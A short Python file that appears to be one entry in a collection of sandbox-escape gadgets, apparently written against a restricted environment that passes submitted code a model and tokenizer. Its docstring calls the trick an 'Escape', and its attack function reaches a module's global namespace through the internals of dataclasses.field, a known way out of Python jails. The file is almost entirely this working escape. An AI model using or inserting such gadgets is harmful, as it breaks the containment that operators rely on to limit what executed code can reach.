"""Class: module gadget. Source: own find. Escape: dataclasses.fields of a library's class hands
out its factories.
"""

import dataclasses

from transformers import GenerationConfig


def attack(model, tokenizer, address):
    return [dataclasses.field().__class__.__init__.__globals__]
